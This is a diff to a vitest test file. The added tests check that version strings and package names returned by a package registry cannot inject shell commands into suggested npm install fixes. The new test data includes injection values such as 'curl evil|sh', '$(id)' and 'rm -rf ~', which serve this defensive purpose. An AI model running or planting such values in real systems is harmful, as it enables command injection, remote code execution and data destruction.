@@ -1,6 +1,7 @@
 import { expect, it } from 'vitest'
 import type { Exec } from '../context.ts'
 import type { PackageManager } from '../project/package-manager.ts'
+import { commandFor } from './manager.ts'
 import { advisoriesSection, outdatedSection } from './registry.ts'
 
 const says = (stdout: string, exitCode = 1, stderr = ''): { root: string; exec: Exec } => ({
@@ -52,4 +53,44 @@ it('says why a registry says nothing, and takes it for no failure', async () => 
   expect(await note('<html>', 0)).toContain('no answer that is understood')
   expect(await note('', 127)).toBe('npm was not found.')
   expect(await outdatedSection('npm', says('', 0))).toMatchObject({ findings: [] })
+})
+
+const HOSTILE = [
+  '4.9.9; curl evil|sh',
+  '4.9.9 $(id)',
+  '4.9.9`id`',
+  '4.9.9\nnpm install evil',
+  '4 --registry=http://evil',
+]
+
+it.each(HOSTILE)('a registry that calls a version %j puts nothing into a command', async (latest) => {
+  const { findings } = await outdatedSection('npm', says(json({ zod: { current: '3.1.0', latest } })))
+  expect(findings).toMatchObject([{ name: 'zod', fix: expect.stringContaining('by hand') }])
+  const via = [{ title: 'x' }]
+  const audit = { vulnerabilities: { zod: { via, fixAvailable: { name: 'zod', version: latest } } } }
+  expect((await advisoriesSection('npm', says(json(audit)))).findings[0]?.fix).toContain('by hand')
+})
+
+it.each(['x; rm -rf ~', '-g', 'a b', '@a/../b', '$(id)', '', 'a\u001b[2J'])(
+  'nor one that calls a package %j',
+  async (name) => {
+    const { findings } = await outdatedSection('npm', says(json({ [name]: { current: '1.0.0', latest: '2.0.0' } })))
+    expect(findings[0]?.fix).toContain('by hand')
+  },
+)
+
+it('names and versions as they are stay in commands', () => {
+  expect(commandFor('npm install', '@acme/my.pkg', '1.0.0-rc.1+b2')).toBe('npm install @acme/my.pkg@1.0.0-rc.1+b2')
+})
+
+it('what is no answer is not "none"', async () => {
+  const note = async (section: typeof outdatedSection, pm: PackageManager, stdout: string) =>
+    (await section(pm, says(stdout, 0))).note
+  expect(await note(outdatedSection, 'npm', json({ error: { code: 'E500', summary: '' } }))).toContain('E500')
+  expect(await note(outdatedSection, 'npm', json({ error: 'gone' }))).toContain('gone')
+  expect(await note(outdatedSection, 'bun', '<html>hotel</html>')).toContain('no answer that is understood')
+  expect(await note(advisoriesSection, 'yarn', '<html>hotel</html>')).toContain('no answer that is understood')
+  expect(await note(advisoriesSection, 'bun', json({ error: 'gone' }))).toContain('gone')
+  expect(await note(advisoriesSection, 'yarn', json({ type: 'auditSummary', data: {} }))).toBeUndefined()
+  expect(await note(outdatedSection, 'npm', json({ error: { current: '1.0.0', latest: '2.0.0' } }))).toBeUndefined()
 })
